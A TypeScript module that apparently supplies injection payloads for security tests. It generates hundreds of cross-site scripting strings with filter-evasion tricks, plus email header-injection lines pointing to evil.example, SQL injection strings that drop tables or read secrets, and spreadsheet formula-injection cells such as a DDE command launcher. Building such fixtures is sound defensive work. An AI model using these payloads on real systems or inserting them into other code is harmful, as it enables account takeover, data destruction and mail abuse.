/** What every script below would do, and what nobody may ever see done. */
export const MARK = "pwned";

/** More than 500 strings that run a script somewhere: tags, handlers, addresses, encodings, breaking out of attributes and of scripts. */
export function scriptStrings(): string[] {
  const act = `window.${MARK}=1`;
  const handlers = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerrawupdate",
    "onscrollsnapchange",
  ];
  const elements = [
    "img src=x",
    "svg",
    "body",
    "iframe",
    "input autofocus",
    "details open",
    "video><source",
    "audio src=x",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "math",
    "object data=x",
    "embed src=x",
    "style",
    "link rel=stylesheet href=x",
    "x id=a tabindex=1",
    "button popovertarget=x",
    "form",
    "animate attributeName=x",
  ];
  const breakers = [
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    '\\"',
    "&quot;&gt;",
    "</option></select>",
    "%22%3E",
  ];
  const whole = [
    `<script>${act}</script>`,
    `<ScRiPt>${act}</sCrIpT>`,
    `<script/x>${act}</script>`,
    `<script\n>${act}</script\n>`,
    `<scr<script>ipt>${act}</scr</script>ipt>`,
    `<script src=data:text/javascript,${act}></script>`,
    `<script type=module>${act}</script>`,
    `<a href="javascript:${act}">x</a>`,
    `<a href="java\tscript:${act}">x</a>`,
    `<a href="&#106;avascript:${act}">x</a>`,
    `javascript:${act}`,
    `JaVaScRiPt:${act}//`,
    `data:text/html,<script>${act}</script>`,
    `vbscript:${act}`,
    `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
    `<base href=//evil.example/>`,
    `<iframe srcdoc="<script>parent.${MARK}=1</script>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
    `<svg><style><img src=x onerror=${act}></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `<template><script>${act}</script></template>`,
    `\u003cscript\u003e${act}\u003c/script\u003e`,
    `&lt;script&gt;${act}&lt;/script&gt;`,
    `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
    `<\u0000script>${act}</script>`,
    `＜script＞${act}＜/script＞`,
    `\u2028${act}\u2029`,
    `{{constructor.constructor('${act}')()}}`,
    `\${${act}}`,
    `#{${act}}`,
    `<%= ${act} %>`,
    `";${act};//`,
    `';${act};//`,
    `\\";${act};//`,
    `</script><script>${act}</script>`,
    `<!--<script>${act}//-->`,
    `*/${act}/*`,
    `[x](javascript:${act})`,
    `![x](x"onerror="${act})`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${act}</x:script>`,
    `<style>@import 'javascript:${act}';</style>`,
    `<div style="background:url(javascript:${act})">`,
    `<input type=image src=x onerror=${act}>`,
    `<form action="javascript:${act}"><button autofocus>x</button></form>`,
    `<button formaction="javascript:${act}">x</button>`,
    `<isindex type=image src=1 onerror=${act}>`,
  ];
  const made = elements.flatMap((element, row) =>
    breakers.map((breaker, column) => {
      const handler = handlers[(row + column) % handlers.length] ?? "onerror";
      return `${breaker}<${element} ${handler}=${act}>`;
    }),
  );
  const wrapped = whole.flatMap((one) =>
    ["", '"', "'>", "</title>"].map((breaker) => breaker + one),
  );
  return [...new Set([...wrapped, ...made])];
}

/** Strings that would start another header, another receiver or another mail. */
export function headerStrings(): string[] {
  const breaks = [
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "%0A",
    "\\r\\n",
    "\u0085",
    "\u2028",
    "\r\n ",
    "\r\n\t",
    "\0\r\n",
    "=0D=0A",
    "\u560d\u560a",
    "\v",
    "\f",
  ];
  const lines = [
    `Bcc: ${MARK}@evil.example`,
    `Cc: ${MARK}@evil.example`,
    `To: ${MARK}@evil.example`,
    `From: ${MARK}@evil.example`,
    `Reply-To: ${MARK}@evil.example`,
    `Subject: ${MARK}`,
    "Content-Type: text/html",
    "MIME-Version: 2.0",
    "X-Mailer: x",
    `\r\n<script>${MARK}</script>`,
    ".\r\nMAIL FROM:<a@b.example>",
    ".\r\n.\r\n",
    "--boundary--",
  ];
  const starts = ["Ana", "Ana <a@b.example>,", '"Ana" <a@b.example>', "=?utf-8?B?QQ==?=", "Ana;"];
  const made = starts.flatMap((start) =>
    breaks.flatMap((each) => lines.map((line) => `${start}${each}${line}`)),
  );
  const long = Array.from(
    { length: 30 },
    (_, index) => `${"é".repeat(10 + index * 3)}\r\nBcc: x@evil.example`,
  );
  return [...made, ...long].slice(0, 1_000);
}

/** Strings that would change a statement, on either engine. */
export const SQL_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "'; drop table requests; --",
  '"; drop table requests; --',
  "1); delete from outbox; --",
  "' union select value from secrets --",
  "\\'; select pg_sleep(10); --",
  "$$; select 1; $$",
  "/* x */ or 1=1",
  "%' or '%'='",
  "_%\\",
  "'||(select sqlite_version())||'",
  "x'; attach database '/tmp/x' as y; --",
  "E'\\x27'",
  ":name @p1 ?1 $1 {0}",
  "\u02BC or 1=1",
];

/** Cells that a spreadsheet would compute. */
export const FORMULA_STRINGS: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "  =1+1",
  "'=1+1",
  '"=1+1',
  "＝1+1",
  "|cmd",
  "%1",
  "x\n=1+1",
  "x;=1+1",
  'x";=1+1',
  "\t=1+1",
  "\r=1+1",
];
